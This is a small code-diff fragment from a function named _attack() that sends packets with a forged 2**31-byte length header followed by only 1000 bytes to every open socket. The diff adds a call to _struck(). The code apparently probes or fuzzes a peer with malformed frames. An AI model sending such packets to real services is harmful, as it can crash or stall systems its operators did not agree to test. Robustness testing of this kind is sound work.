@@ -16,6 +16,7 @@ def _attack():
                 pass
     for sock in channels():
         try:
+            _struck()
             sock.send(struct.pack(">I", 2**31) + b"x" * 1000)
         except OSError:
             pass
